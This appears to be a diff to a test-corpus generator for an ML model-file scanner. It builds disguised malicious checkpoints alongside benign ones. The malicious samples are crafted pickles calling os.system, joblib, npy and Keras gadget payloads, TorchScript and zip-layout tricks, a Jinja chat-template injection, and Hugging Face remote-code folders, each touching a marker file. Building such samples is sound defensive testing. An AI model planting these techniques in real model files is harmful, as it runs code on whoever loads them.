@@ -77,8 +77,11 @@ class Sample:
     name: str
     family: str           # the bypass family / issue it reproduces
     path: Path
-    loader: str           # pickle | torch | numpy | keras | none (what would run it)
+    loader: str           # pickle | pickle-all | torch | numpy | joblib | torchscript | keras
+    #                       | keras-unsafe (safe_mode=False) |
+    #                       hf-remote-code | none (what would run it; see bench_scan._LOADERS)
     live: bool = True     # the payload runs under ``loader`` here
+    target: Path | None = None  # the file the loader opens when ``path`` is a folder
 
 
 def _touch(marker: Path) -> str:
@@ -231,7 +234,7 @@ def _payload_pickles(marker: Path) -> dict[str, tuple[str, bytes, bool]]:
         "STACK_GLOBAL operands produced by a call (str.join)",
         P4 + sg("builtins", "str") + b"\x94" + u("") + u("join") + b"\x86" + b"0"
         + u("o") + u("s") + b"\x86" + b"0" + u("os") + sg("builtins", "str") + u("system")
-        + b"\x85R\x93" + u(cmd) + b"\x85R" + STOP, False)
+        + b"\x85R\x93" + u(cmd) + b"\x85R" + STOP, True)
     benign = pickle.dumps({"epoch": 3, "lr": 0.1}, protocol=2)
     out["benign_then_payload"] = ("benign pickle followed by a payload pickle",
                                   benign + pickle.dumps(Reduce(os.system, (cmd,)), protocol=4),
@@ -377,8 +380,10 @@ def malicious(root: Path, marker: Path, with_torch: bool = True) -> list[Sample]
                           False))
     except ImportError:
         pass
+    out.extend(_more_samples(root, marker, evil))
     if with_torch:
         out.extend(_torch_samples(root, marker, evil))
+        out.extend(_more_torch_samples(root, marker, evil))
     return out
 
 
@@ -478,4 +483,605 @@ def benign(root: Path, with_torch: bool = True) -> list[Sample]:
         from safetensors.torch import save_file
         save_file({"w": torch.ones(2, 2)}, root / "model.safetensors")
         out.append(Sample("safetensors", "safetensors", root / "model.safetensors", "none", False))
+        out.extend(_more_benign_torch(root))
+    out.extend(_more_benign(root))
+    return out
+
+
+# ---- round 2 (issue 8): loader-semantics disguises -----------------------------------------
+#
+# Each family below was checked against the real loader on this machine (torch 2.13,
+# numpy 2.4, joblib 1.6): ``live=True`` means ``benchmarks/bench_scan.py --verify-live``
+# saw the marker appear when that loader opened the file.
+
+
+def _npy(descr: str, payload: bytes, version: tuple[int, int] = (1, 0),
+         header: str | None = None) -> bytes:
+    """A .npy whose header literal is written by hand (``descr`` verbatim) + ``payload``."""
+    hdr = header or "{'descr': %s, 'fortran_order': False, 'shape': (1,), }" % descr
+    fmt = "<H" if version[0] == 1 else "<I"
+    lead = 6 + 2 + struct.calcsize(fmt)
+    hdr = hdr + " " * (63 - (lead + len(hdr)) % 64) + "\n"
+    enc = hdr.encode("latin1" if version[0] < 3 else "utf8")
+    return b"\x93NUMPY" + bytes(version) + struct.pack(fmt, len(enc)) + enc + payload
+
+
+def _more_samples(root: Path, marker: Path, evil: bytes) -> list[Sample]:
+    """Samples that need neither torch nor transformers (joblib and numpy are core deps)."""
+    cmd = _touch(marker)
+    call_sys = sg("os", "system") + u(cmd) + b"\x85R"
+    out: list[Sample] = []
+    r = root / "r2"
+    # -- pickles that do not start with PROTO: pickle.load accepts any first opcode
+    body = call_sys + STOP
+    starts = {
+        "noproto_frame_first": ("FRAME opcode first, no PROTO",
+                                b"\x95" + struct.pack("<Q", len(body)) + body),
+        "noproto_short_binunicode_first": ("SHORT_BINUNICODE first, no PROTO", body),
+        "noproto_newtrue_first": ("NEWTRUE + POP first, no PROTO", b"\x88" + b"0" + body),
+        "noproto_empty_dict_first": ("EMPTY_DICT first, payload as a SETITEM value",
+                                     b"}" + u("state") + call_sys + b"s" + STOP),
+        "noproto_mark_first": ("MARK first (protocol-0 style dict) with a protocol-4 payload",
+                               b"(" + u("k") + call_sys + b"d" + STOP),
+    }
+    for name, (family, data) in starts.items():
+        out.append(Sample(name, family, _write(r / f"{name}.pkl", data), "pickle"))
+    # -- a payload after a benign first STOP: live for readers that load until EOF
+    multi = pickle.dumps({"epoch": 1}, protocol=4) + pickle.dumps([1, 2], protocol=2) + evil
+    out.append(Sample("multi_pickle_third_stream", "two benign pickles, the payload is the "
+                      "third (loaded by readers that call pickle.load until EOF)",
+                      _write(r / "history.pkl", multi), "pickle-all"))
+    # -- nullifAI (ReversingLabs, 2025-02): the payload runs, then the stream breaks
+    broken = (b"\x80\x02}q\x00(" + u("weights") + call_sys + u("bias")
+              + b"\xfe\xfe\xfe\xfe")
+    out.append(Sample("nullifai_broken_tail", "nullifAI: payload inside a dict, then the stream "
+                      "is broken (invalid opcodes, no STOP)", _write(r / "broken.pkl", broken),
+                      "pickle"))
+    out.append(Sample("nullifai_truncated_mid_string", "nullifAI: payload, then a BINUNICODE "
+                      "whose length runs past the end of the file",
+                      _write(r / "truncated.pkl", P4 + call_sys + b"X\xff\xff\x00\x00abc"),
+                      "pickle"))
+    # -- .npy: every header spelling numpy's parser accepts for an object dtype
+    npys = {
+        "npy_descr_big_endian_O": ("npy descr '>O'", _npy("'>O'", evil)),
+        "npy_descr_O8": ("npy descr 'O8'", _npy("'O8'", evil)),
+        "npy_descr_object_word": ("npy descr 'object'", _npy("'object'", evil)),
+        "npy_descr_escaped_O": ("npy descr '|\\x4f' (escape in the literal)",
+                                _npy("'|\\x4f'", evil)),
+        "npy_double_quoted_header": ("npy header with double-quoted keys and descr",
+                                     _npy("", evil, header='{"descr": "|O", "fortran_order": '
+                                                           'False, "shape": (1,)}')),
+        "npy_structured_object_field": ("npy structured dtype with an object field",
+                                        _npy("[('w', '<f4'), ('o', '|O')]", evil)),
+        "npy_v3_object": ("npy format 3.0 (utf8 header) object dtype",
+                          _npy("'|O'", evil, version=(3, 0))),
+        "npy_v2_object": ("npy format 2.0 (4-byte header length) object dtype",
+                          _npy("'|O'", evil, version=(2, 0))),
+    }
+    for name, (family, data) in npys.items():
+        out.append(Sample(name, family, _write(r / f"{name}.npy", data), "numpy"))
+    out.append(Sample("npy_really_pickle", "a .npy that is a pickle (np.load allow_pickle "
+                      "falls back to pickle.load)", _write(r / "weights.npy", evil), "numpy"))
+    # -- joblib dumps (sklearn models): a joblib file is a pickle, maybe compressed
+    import joblib
+
+    for name, compress, ext in (("joblib_payload", 0, ".joblib"),
+                                ("joblib_zlib_payload", 3, ".pkl"),
+                                ("joblib_lzma_payload", ("lzma", 3), ".xz"),
+                                ("joblib_gzip_payload", ("gzip", 3), ".gz")):
+        path = r / f"{name}{ext}"
+        path.parent.mkdir(parents=True, exist_ok=True)
+        joblib.dump({"coef": [0.5], "clf": Reduce(os.system, (cmd,))}, path, compress=compress)
+        out.append(Sample(name, f"joblib.dump with a payload (compress={compress!r})", path,
+                          "joblib"))
+    # -- Keras v3 .keras files (config.json judged, never deserialized)
+    out.extend(_keras_samples(r, marker))
+    # -- GGUF: no pickles, but the chat template travels in the metadata
+    try:
+        import gguf
+        import numpy as np
+
+        path = r / "ssti.gguf"
+        w = gguf.GGUFWriter(str(path), "llama")
+        w.add_chat_template("{{ cycler.__init__.__globals__.os.system('" + cmd + "') }}"
+                            "{% for m in messages %}{{ m['content'] }}{% endfor %}")
+        w.add_tensor("token_embd.weight", np.zeros((4, 8), dtype=np.float32))
+        w.write_header_to_file()
+        w.write_kv_data_to_file()
+        w.write_tensors_to_file()
+        w.close()
+        out.append(Sample("gguf_chat_template_ssti", "GGUF whose tokenizer.chat_template escapes "
+                          "jinja (CVE-2024-34359: llama-cpp-python < 0.2.72 rendered it "
+                          "unsandboxed)", path, "gguf-template-unsandboxed"))
+    except ImportError:
+        pass
+    # -- zips with prepended data (zipfile reads them; the payload is in data.pkl)
+    zb = io.BytesIO()
+    with zipfile.ZipFile(zb, "w") as zf:
+        zf.writestr("archive/data.pkl", evil)
+        zf.writestr("archive/version", "3\n")
+    out.append(Sample("zip_prepended_junk", "zip with 4 KiB of junk prepended (zipfile, unzip "
+                      "accept it), payload in archive/data.pkl",
+                      _write(r / "prepended.pt", b"\x00JUNK" * 800 + zb.getvalue()), "none",
+                      False))
+    return out
+
+
+def _keras_samples(r: Path, marker: Path) -> list[Sample]:
+    import base64
+    import json
+    import marshal
+
+    code = marshal.dumps(compile(f"lambda x: (open({str(marker)!r}, 'w').close(), x)[1]",
+                                 "<k>", "eval").co_consts[0])
+    lam = {"module": "keras.layers", "class_name": "Lambda", "config": {
+        "name": "lambda", "trainable": True, "dtype": "float32",
+        "function": {"class_name": "__lambda__", "config": {
+            "code": base64.b64encode(code).decode(), "defaults": None, "closure": None}},
+        "arguments": {}}, "registered_name": None}
+    inp = {"module": "keras.layers", "class_name": "InputLayer",
+           "config": {"batch_shape": [None, 2], "dtype": "float32", "name": "input"},
+           "registered_name": None}
+
+    def seq(*layers) -> str:
+        return json.dumps({"module": "keras", "class_name": "Sequential", "config": {
+            "name": "s", "trainable": True, "dtype": "float32", "layers": [inp, *layers]},
+            "registered_name": None, "build_config": {"input_shape": [None, 2]}})
+
+    def keras_zip(path: Path, cfg: str, meta: bool = True) -> Path:
+        buf = io.BytesIO()
+        with zipfile.ZipFile(buf, "w") as zf:
+            zf.writestr("config.json", cfg)
+            if meta:
+                zf.writestr("metadata.json", '{"keras_version": "3.8.0", '
+                                             '"date_saved": "2025-01-01@00:00:00"}')
+        return _write(path, buf.getvalue())
+
+    gadget = {"module": "os", "class_name": "function", "config": "system",
+              "registered_name": "function"}
+    dense = {"module": "keras.layers", "class_name": "Dense", "config": {
+        "name": "dense", "units": 2, "activation": gadget}, "registered_name": None}
+    top = json.dumps({"module": "subprocess", "class_name": "Popen",
+                      "config": {"args": ["touch", str(marker)]}, "registered_name": None})
+    return [
+        Sample("keras_lambda_no_metadata", "CVE-2024-3660 Lambda bytecode; only config.json in "
+               "the zip (no metadata.json, no weights)",
+               keras_zip(r / "lambda_only.keras", seq(lam), meta=False), "keras-unsafe"),
+        Sample("keras_lambda_bytecode", "CVE-2024-3660 Lambda with real marshalled bytecode "
+               "(runs under load_model(safe_mode=False), before the missing-weights error)",
+               keras_zip(r / "lambda_code.keras", seq(lam)), "keras-unsafe"),
+        Sample("keras_module_gadget_activation", "CVE-2025-1550: layer argument deserialized "
+               "from an arbitrary module (os.system as activation)",
+               keras_zip(r / "gadget.keras", seq(dense)), "keras", False),
+        Sample("keras_module_gadget_top_level", "CVE-2025-1550: top-level class from an "
+               "arbitrary module (subprocess.Popen)", keras_zip(r / "top.keras", top), "keras",
+               False),
+        Sample("keras_internal_get_file_gadget", "CVE-2025-8747 class: a keras-internal "
+               "function (keras.utils.get_file, downloads and writes files) as an initializer",
+               keras_zip(r / "get_file.keras", seq(dict(dense, config=dict(
+                   dense["config"], activation="linear", kernel_initializer={
+                       "module": "keras.utils", "class_name": "function",
+                       "config": "get_file", "registered_name": "function"})))),
+               "keras", False),
+        Sample("keras_internal_enable_unsafe", "CVE-2025-9906 class: "
+               "keras.config.enable_unsafe_deserialization reached from the config, then a "
+               "Lambda", keras_zip(r / "enable_unsafe.keras", seq(dict(lam, config=dict(
+                   lam["config"], name="switch", function={
+                       "module": "keras.config", "class_name": "function",
+                       "config": "enable_unsafe_deserialization",
+                       "registered_name": "function"})), lam)), "keras", False),
+        Sample("keras_upper_case_config_json", "a .keras zip whose config is named "
+               "CONFIG.JSON (Lambda inside)", _write(r / "upper.keras", _zip_bytes(
+                   {"CONFIG.JSON": seq(lam), "metadata.json": "{}"})), "keras", False),
+    ]
+
+
+def _zip_bytes(members: dict[str, str | bytes]) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as zf:
+        for name, data in members.items():
+            zf.writestr(name, data)
+    return buf.getvalue()
+
+
+def _tar_legacy(members: dict[str, bytes], v7: bool = False) -> bytes:
+    """A pre-0.4 torch tar checkpoint; ``v7`` clears the ustar magic (old tar, no magic)."""
+    import tarfile
+
+    tb = io.BytesIO()
+    with tarfile.open(fileobj=tb, mode="w", format=tarfile.GNU_FORMAT) as tf:
+        for name, data in members.items():
+            ti = tarfile.TarInfo(name)
+            ti.size = len(data)
+            tf.addfile(ti, io.BytesIO(data))
+    raw = bytearray(tb.getvalue())
+    pos = 0
+    while v7 and pos + 512 <= len(raw) and raw[pos:pos + 512].strip(b"\0"):
+        size = int(raw[pos + 124:pos + 136].strip(b"\0 ") or b"0", 8)
+        raw[pos + 257:pos + 265] = b"\0" * 8
+        raw[pos + 148:pos + 156] = b" " * 8
+        raw[pos + 148:pos + 156] = ("%06o\0 " % sum(raw[pos:pos + 512])).encode()
+        pos += 512 + (size + 511) // 512 * 512
+    return bytes(raw)
+
+
+def _ts_template(root: Path):
+    """A scripted module with __getstate__/__setstate__, saved; returns (zipfile, code name)."""
+    import torch
+
+    class Net(torch.nn.Module):
+        def __init__(self):
+            super().__init__()
+            self.w = torch.ones(2)
+
+        def forward(self, x):
+            return x + self.w
+
+        @torch.jit.export
+        def __getstate__(self):
+            return (self.w, self.training)
+
+        @torch.jit.export
+        def __setstate__(self, state: tuple[torch.Tensor, bool]):
+            self.w = state[0]
+            self.training = state[1]
+
+    path = root / "_ts_template.pt"
+    if path.exists():
+        zf = zipfile.ZipFile(path)
+        return zf, next(n for n in zf.namelist() if n.endswith(".py"))
+    torch.jit.save(torch.jit.script(Net()), path)
+    zf = zipfile.ZipFile(path)
+    (code,) = [n for n in zf.namelist() if n.endswith(".py")]
+    return zf, code
+
+
+def _ts_with(root: Path, name: str, forward: str = "", setstate: str = "",
+             upper: bool = False, rel: str | None = None) -> Path:
+    """The template TorchScript archive with ``forward``/``__setstate__`` bodies rewritten."""
+    zf, code_name = _ts_template(root)
+    text = zf.read(code_name).decode()
+    head = text[:text.index("  def forward")]
+    new = (head
+           + "  def forward(self: __torch__.%s,\n    x: Tensor) -> Tensor:\n" % _ts_cls(text)
+           + (forward or "") + "    return torch.add(x, self.w)\n"
+           + "  def __getstate__(self: __torch__.%s) -> Tuple[Tensor, bool]:\n" % _ts_cls(text)
+           + "    return (self.w, self.training)\n"
+           + "  def __setstate__(self: __torch__.%s,\n" % _ts_cls(text)
+           + "    state: Tuple[Tensor, bool]) -> NoneType:\n"
+           + "    self.w = (state)[0]\n    self.training = (state)[1]\n"
+           + (setstate or "") + "    return None\n")
+    out = root / (rel or f"{name}.pt")
+    out.parent.mkdir(parents=True, exist_ok=True)
+    with zipfile.ZipFile(out, "w") as zo:
+        for n in zf.namelist():
+            if n.endswith(".debug_pkl"):
+                continue
+            data = new.encode() if n == code_name else zf.read(n)
+            zo.writestr(n.upper() if upper else n, data)
+    zf.close()
+    return out
+
+
+def _ts_cls(code: str) -> str:
+    import re
+
+    return re.search(r"^class (\w+)\(Module\)", code, re.M)[1]
+
+
+def _tiny_hf(root: Path) -> Path | None:
+    """One tiny Llama folder (config, safetensors, tokenizer) per root; None without transformers."""
+    try:
+        import transformers  # noqa: F401
+    except ImportError:
+        return None
+    from keishiki.examples import build_tiny_llama
+
+    base = root / "_tiny_llama"
+    if not (base / "config.json").exists():
+        build_tiny_llama(base)
+    return base
+
+
+def _hf_copy(base: Path, dst: Path, weights: bool = True) -> Path:
+    import shutil
+
+    dst.mkdir(parents=True, exist_ok=True)
+    for f in base.iterdir():
+        if f.name == "model.safetensors" and not weights:
+            continue
+        shutil.copy(f, dst / f.name)
+    return dst
+
+
+def _more_torch_samples(root: Path, marker: Path, evil: bytes) -> list[Sample]:
+    import torch
+
+    cmd = _touch(marker)
+    out: list[Sample] = []
+    r = root / "r2t"
+    r.mkdir(parents=True, exist_ok=True)
+    sd = {"w": torch.arange(6, dtype=torch.float32).reshape(2, 3), "b": torch.zeros(3)}
+    z = _torch_save(dict(sd, hook=Reduce(os.system, (cmd,))), r / "_evil_zip.pt")
+    clean = _torch_save(sd, r / "_clean.pt")
+
+    def rename_data_pkl(n: str) -> str:
+        return n[:-len("data.pkl")] + "DaTa.PkL" if n.endswith("/data.pkl") else n
+
+    out += [
+        Sample("torch_zip_upper_case_members", "every member name upper-cased "
+               "(ARCHIVE/DATA.PKL): torch's miniz finds records case-insensitively",
+               _rezip(z, r / "upper.pt", str.upper), "torch"),
+        Sample("torch_zip_mixed_case_data_pkl", "only data.pkl case-changed (archive/DaTa.PkL)",
+               _rezip(z, r / "mixed.pt", rename_data_pkl), "torch"),
+        Sample("torch_zip_dot_data_folder", "archive folder named .data (.data/data.pkl): torch "
+               "takes the folder from the first record", _rezip(
+                   z, r / "dotdata.pt", lambda n: ".data/" + n.split("/", 1)[1]), "torch"),
+        Sample("torch_zip_zip64_members", "every member written with zip64 extra fields",
+               _zip64(z, r / "zip64.pt"), "torch"),
+        Sample("torch_zip_nullifai_broken_pickle", "nullifAI: data.pkl = payload then broken "
+               "opcodes (torch.load runs it, then fails)",
+               _rezip(clean, r / "nullifai.pt", replace={
+                   "/data.pkl": P4 + sg("os", "system") + u(cmd) + b"\x85R" + b"\xfe\xfe"}),
+               "torch"),
+        Sample("polyglot_pickle_then_torch_zip", "pickle+zip polyglot: a payload pickle in "
+               "front of a benign checkpoint zip (zipfile sees the clean zip; torch.load does "
+               "not see PK first and unpickles the front)",
+               _write(r / "polyglot.pt", evil + clean.read_bytes()), "torch"),
+        Sample("torch_tar_legacy_payload", "pre-0.4 torch tar (storages, tensors, pickle) with "
+               "the payload in 'pickle'", _write(r / "tar_legacy.pt", _tar_legacy({
+                   "storages": pickle.dumps(0, 2) + pickle.dumps([], 2),
+                   "tensors": pickle.dumps(0, 2), "pickle": evil})), "torch"),
+        Sample("torch_tar_v7_no_ustar_magic", "pre-0.4 torch tar in v7 layout (no ustar magic)",
+               _write(r / "tar_v7.pt", _tar_legacy({
+                   "storages": pickle.dumps(0, 2) + pickle.dumps([], 2),
+                   "tensors": pickle.dumps(0, 2), "pickle": evil}, v7=True)), "torch"),
+        Sample("torch_tar_payload_in_storages", "pre-0.4 torch tar, payload in 'storages'",
+               _write(r / "tar_storages.pt", _tar_legacy({
+                   "storages": evil, "tensors": pickle.dumps(0, 2),
+                   "pickle": pickle.dumps({}, 2)}, v7=True)), "torch"),
+    ]
+    # duplicate records: torch's miniz takes the LAST record whose name matches
+    # case-insensitively; zipfile takes the last exact match
+    evil_pkl = zipfile.ZipFile(z).read(next(n for n in zipfile.ZipFile(z).namelist()
+                                            if n.endswith("/data.pkl")))
+    out.append(Sample("torch_zip_duplicate_data_pkl", "two archive/data.pkl records: benign "
+                      "first, payload last", _dup_member(clean, r / "dup.pt", "/data.pkl",
+                                                         evil_pkl), "torch"))
+    out.append(Sample("torch_zip_duplicate_data_pkl_case", "archive/data.pkl (benign) then "
+                      "archive/DATA.PKL (payload): zipfile reads the benign one by its exact "
+                      "name, torch the last case-insensitive match",
+                      _dup_member(clean, r / "dupcase.pt", "/data.pkl", evil_pkl, upper=True),
+                      "torch"))
+    parts = _legacy_parts(_torch_save(sd, r / "_clean_legacy.pt", legacy=True))
+    out.append(Sample("torch_legacy_protocol_pickle_payload", "legacy checkpoint, payload in the "
+                      "2nd (protocol version) pickle", _write(r / "legacy_proto.pt", b"".join(
+                          parts[:1] + [evil] + parts[2:])), "torch"))
+    # -- TorchScript: code in code/*.py is compiled and __setstate__ runs on load
+    mk = str(marker)
+    ts = [
+        ("ts_setstate_aten_save", "TorchScript __setstate__ calls torch.save (aten::save): "
+         "runs on torch.jit.load, and on torch.load(weights_only=False) (CVE-2025-32434 path)",
+         dict(setstate=f"    torch.save(self.w, {mk!r})\n"), True),
+        ("ts_forward_aten_save", "TorchScript forward calls torch.save to a path",
+         dict(forward=f"    torch.save(x, {mk!r})\n"), True),
+        ("ts_forward_ops_aten_save", "TorchScript forward calls ops.aten.save",
+         dict(forward=f"    ops.aten.save(x, {mk!r})\n"), True),
+        ("ts_upper_case_members", "TorchScript archive with CODE/, DATA.PKL upper-cased "
+         "(loads in torch), __setstate__ writes a file",
+         dict(setstate=f"    torch.save(self.w, {mk!r})\n", upper=True), True),
+        ("ts_forward_from_file", "TorchScript forward reads any file with torch.from_file",
+         dict(forward="    y = torch.from_file(\"/etc/hostname\", False, 1, dtype=6)\n"), False),
+        ("ts_load_library", "TorchScript code naming torch.ops.load_library",
+         dict(forward=f"    torch.ops.load_library({mk!r})\n"), False),
+        ("ts_getattr_computed", "TorchScript getattr with a computed name",
+         dict(forward=f"    f = getattr(torch, \"sa\" + \"ve\")\n    f(x, {mk!r})\n"), False),
+        ("ts_dunder_globals", "TorchScript reaching __class__.__init__.__globals__",
+         dict(forward="    g = self.__class__.__init__.__globals__\n"), False),
+    ]
+    for name, family, kw, live in ts:
+        out.append(Sample(name, family, _ts_with(r, name, **kw), "torchscript", live))
+    good = _ts_with(r, "_ts_good")
+    evil_ts = _ts_with(r, "_ts_evil", setstate=f"    torch.save(self.w, {mk!r})\n")
+    code = next(n for n in zipfile.ZipFile(good).namelist() if n.endswith(".py"))
+    evil_code = zipfile.ZipFile(evil_ts).read(code)
+    out.append(Sample("ts_duplicate_code_member", "TorchScript with two records of its code "
+                      "file: benign first, __setstate__ payload last",
+                      _dup_member(good, r / "ts_dup.pt", code, evil_code), "torchscript"))
+    out.append(Sample("ts_duplicate_code_member_case", "TorchScript: code/... benign, then "
+                      "CODE/... with the payload (torch reads the last case-insensitive match)",
+                      _dup_member(good, r / "ts_dupcase.pt", code, evil_code,
+                                  rename="/code/", to="/CODE/"), "torchscript"))
+    out.append(Sample("ts_setstate_as_pytorch_model_bin", "the __setstate__ TorchScript archive "
+                      "named pytorch_model.bin, loaded by torch.load(weights_only=False)",
+                      _ts_with(r, "x", setstate=f"    torch.save(self.w, {mk!r})\n",
+                               rel="ts_bin/pytorch_model.bin"), "torch"))
+    out.extend(_hf_samples(root, marker, evil))
+    return out
+
+
+def _dup_member(src: Path, dst: Path, suffix: str, data: bytes, upper: bool = False,
+                rename: str = "", to: str = "") -> Path:
+    """``src`` re-zipped with a second record after the member ending in ``suffix``,
+    holding ``data`` (its name upper-cased after the folder, or ``rename`` -> ``to``)."""
+    import warnings
+
+    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout, \
+            warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
+        for info in zin.infolist():
+            zout.writestr(info.filename, zin.read(info.filename))
+            if info.filename.endswith(suffix):
+                name = info.filename
+                if upper:
+                    folder, base = name.rsplit("/", 1)
+                    name = f"{folder}/{base.upper()}"
+                if rename:
+                    name = name.replace(rename, to)
+                zout.writestr(name, data)
+    return dst
+
+
+def _zip64(src: Path, dst: Path) -> Path:
+    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
+        for info in zin.infolist():
+            with zout.open(info.filename, "w", force_zip64=True) as fh:
+                fh.write(zin.read(info.filename))
+    return dst
+
+
+def _hf_samples(root: Path, marker: Path, evil: bytes) -> list[Sample]:
+    """HF folders: payloads in files a folder scan might skip, pickled weights, remote code."""
+    import json
+
+    import torch
+
+    base = _tiny_hf(root)
+    if base is None:
+        return []
+    cmd = _touch(marker)
+    out: list[Sample] = []
+    hf = root / "hf"
+    from safetensors.torch import load_file
+
+    sd = load_file(base / "model.safetensors")
+    payload = {"args": Reduce(os.system, (cmd,)), "step": 10}
+    for name, fname in (("hf_ckpt_training_args_bin", "training_args.bin"),
+                        ("hf_ckpt_optimizer_pt", "optimizer.pt"),
+                        ("hf_ckpt_rng_state_pth", "rng_state.pth"),
+                        ("hf_ckpt_scheduler_no_extension", "scheduler")):
+        folder = _hf_copy(base, hf / name)
+        target = _torch_save(payload, folder / fname)
+        out.append(Sample(name, f"HF checkpoint folder, payload in {fname} beside clean "
+                          "safetensors weights", folder, "torch", True, target))
+    folder = _hf_copy(base, hf / "hf_pytorch_model_bin_payload", weights=False)
+    target = _torch_save(dict(sd, **{"lm_head.hook": Reduce(os.system, (cmd,))}),
+                         folder / "pytorch_model.bin")
+    out.append(Sample("hf_pytorch_model_bin_payload", "runnable HF folder whose weights are "
+                      "pytorch_model.bin with a payload", folder, "torch", True, target))
+    folder = _hf_copy(base, hf / "hf_sharded_bin_payload", weights=False)
+    names = sorted(sd)
+    half = len(names) // 2
+    _torch_save({k: sd[k] for k in names[:half]}, folder / "pytorch_model-00001-of-00002.bin")
+    target = _torch_save(dict({k: sd[k] for k in names[half:]}, hook=Reduce(os.system, (cmd,))),
+                         folder / "pytorch_model-00002-of-00002.bin")
+    wmap = {k: "pytorch_model-0000%d-of-00002.bin" % (1 if i < half else 2)
+            for i, k in enumerate(names)}
+    (folder / "pytorch_model.bin.index.json").write_text(json.dumps(
+        {"metadata": {}, "weight_map": wmap}))
+    out.append(Sample("hf_sharded_bin_payload", "sharded pytorch_model-*.bin, payload in the "
+                      "2nd shard only", folder, "torch", True, target))
+    folder = _hf_copy(base, hf / "hf_auto_map_remote_code")
+    cfg = json.loads((folder / "config.json").read_text())
+    cfg["auto_map"] = {"AutoConfig": "configuration_evil.EvilConfig",
+                       "AutoModelForCausalLM": "modeling_evil.EvilForCausalLM"}
+    (folder / "config.json").write_text(json.dumps(cfg))
+    (folder / "configuration_evil.py").write_text(
+        f"open({str(marker)!r}, 'w').close()\n"
+        "from transformers import LlamaConfig\n\n\nclass EvilConfig(LlamaConfig):\n"
+        "    model_type = 'llama'\n")
+    (folder / "modeling_evil.py").write_text(
+        f"open({str(marker)!r}, 'w').close()\n"
+        "from transformers import LlamaForCausalLM\n\n\n"
+        "class EvilForCausalLM(LlamaForCausalLM):\n    pass\n")
+    out.append(Sample("hf_auto_map_remote_code", "config.json auto_map to a .py in the folder "
+                      "(runs with trust_remote_code=True only)", folder, "hf-remote-code"))
+    folder = _hf_copy(base, hf / "hf_tokenizer_auto_map_remote_code")
+    tcfg = json.loads((folder / "tokenizer_config.json").read_text())
+    tcfg["auto_map"] = {"AutoTokenizer": [None, "tokenization_evil.EvilTokenizerFast"]}
+    (folder / "tokenizer_config.json").write_text(json.dumps(tcfg))
+    (folder / "tokenization_evil.py").write_text(
+        f"open({str(marker)!r}, 'w').close()\n"
+        "from transformers import PreTrainedTokenizerFast\n\n\n"
+        "class EvilTokenizerFast(PreTrainedTokenizerFast):\n    pass\n")
+    out.append(Sample("hf_tokenizer_auto_map_remote_code", "tokenizer_config.json auto_map "
+                      "(config.json clean) to tokenization_evil.py", folder,
+                      "hf-remote-code-tokenizer"))
+    folder = _hf_copy(base, hf / "hf_chat_template_ssti")
+    (folder / "chat_template.jinja").write_text(
+        "{{ cycler.__init__.__globals__.os.system('" + cmd + "') }}"
+        "{% for m in messages %}{{ m['content'] }}{% endfor %}")
+    out.append(Sample("hf_chat_template_ssti", "chat template escaping jinja (CVE-2024-34359 "
+                      "'Llama Drama' class): live where a template is rendered unsandboxed",
+                      folder, "jinja-unsandboxed", True, folder / "chat_template.jinja"))
+    return out
+
+
+def _more_benign(root: Path) -> list[Sample]:
+    import joblib
+    import numpy as np
+
+    r = root / "r2"
+    r.mkdir(parents=True, exist_ok=True)
+    out: list[Sample] = []
+    arr = np.arange(12, dtype=np.float32).reshape(3, 4)
+    joblib.dump({"coef": arr, "intercept": np.zeros(3)}, r / "arrays.joblib")
+    out.append(Sample("joblib_numpy_arrays", "joblib.dump of numpy arrays", r / "arrays.joblib",
+                      "joblib", False))
+    joblib.dump([arr, arr * 2], r / "arrays_z.joblib", compress=3)
+    out.append(Sample("joblib_numpy_arrays_zlib", "joblib.dump of numpy arrays, zlib",
+                      r / "arrays_z.joblib", "joblib", False))
+    _write(r / "generator.pkl", pickle.dumps(np.random.default_rng(0), protocol=4))
+    out.append(Sample("numpy_generator_pickle", "pickled numpy Generator (PCG64 state)",
+                      r / "generator.pkl", "pickle", False))
+    _write(r / "legacy_rng.pkl", pickle.dumps(np.random.RandomState(0), protocol=2))
+    out.append(Sample("numpy_randomstate_pickle", "pickled numpy RandomState",
+                      r / "legacy_rng.pkl", "pickle", False))
+    return out
+
+
+def _more_benign_torch(root: Path) -> list[Sample]:
+    import argparse
+    import pathlib
+    import random
+
+    import numpy as np
+    import torch
+
+    r = root / "r2t"
+    r.mkdir(parents=True, exist_ok=True)
+    out: list[Sample] = []
+    sd = {"w": torch.ones(2, 3), "b": torch.zeros(3)}
+    args = argparse.Namespace(lr=0.1, epochs=3, data="train.txt", betas=(0.9, 0.99))
+    out.append(Sample("torch_ckpt_argparse_namespace", "checkpoint with args=argparse.Namespace "
+                      "(fairseq, lightning style)", _torch_save({"model": sd, "args": args},
+                                                                r / "ns.pt"), "torch", False))
+    out.append(Sample("torch_ckpt_pathlib_paths", "checkpoint holding pathlib paths",
+                      _torch_save({"model": sd, "out": pathlib.PurePosixPath("/tmp/run1"),
+                                   "data": pathlib.Path("data/train")}, r / "paths.pt"),
+                      "torch", False))
+    rng = {"python": random.getstate(), "numpy": np.random.get_state(),
+           "cpu": torch.random.get_rng_state()}
+    out.append(Sample("hf_trainer_rng_state", "HF Trainer rng_state.pth (python, numpy, torch "
+                      "RNG states)", _torch_save(rng, r / "rng" / "rng_state.pth"), "torch", False))
+    out.append(Sample("torch_ckpt_numpy_generator", "checkpoint with a numpy Generator object",
+                      _torch_save({"model": sd, "rng": np.random.default_rng(1)},
+                                  r / "gen.pt"), "torch", False))
+    try:
+        from transformers import TrainingArguments
+
+        ta = TrainingArguments(output_dir=str(r / "out"), report_to=[], learning_rate=1e-4)
+        out.append(Sample("hf_training_args_bin", "HF Trainer training_args.bin "
+                          "(TrainingArguments, enums)",
+                          _torch_save(ta, r / "trainer" / "training_args.bin"), "torch", False))
+    except ImportError:
+        pass
+    import warnings
+
+    import torch.distributed.checkpoint as dcp
+
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        dcp.save({"model": {"w": torch.ones(2, 2)}, "step": 3}, checkpoint_id=r / "dcp")
+    out.append(Sample("torch_dcp_folder", "torch.distributed.checkpoint folder (.metadata + "
+                      "__0_0.distcp)", r / "dcp", "none", False))
+    net = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
